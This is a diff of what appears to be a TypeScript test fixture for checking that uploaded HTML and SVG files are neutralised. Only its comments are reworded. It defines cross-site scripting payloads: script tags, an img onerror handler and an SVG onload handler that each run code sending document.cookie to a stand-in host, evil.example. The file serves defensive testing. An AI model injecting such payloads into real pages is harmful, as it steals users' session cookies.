@@ -1,18 +1,18 @@
-/** The mark that a script of a file would leave on the page it runs in. */
+/** The global variable that a file's script would set in its page. */
 export const mark = 'konsilRan';
 
-/** What every hostile file tries: leave a mark, ask something, call home. */
+/** What every hostile file tries: set a variable, alert, send a request. */
 export const script = `globalThis.${mark}=1;alert(document.domain);fetch('https://evil.example/steal?'+document.cookie)`;
 export const element = `<script>${script}</script>`;
 export const page = `<!doctype html><html><body>${element}<img src=x onerror="${script}"></body></html>`;
 export const drawing = `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}">${element}<image href="https://evil.example/x.png"/></svg>`;
 
 export interface HostileFile {
-  /** What it is, for the report. */
+  /** Description for the report. */
   what: string;
   name: string;
   bytes: Buffer;
-  /** What becomes of it: kept and then harmless, or turned away. */
+  /** Whether it is accepted (and then harmless) or refused. */
   kept: boolean;
 }
 
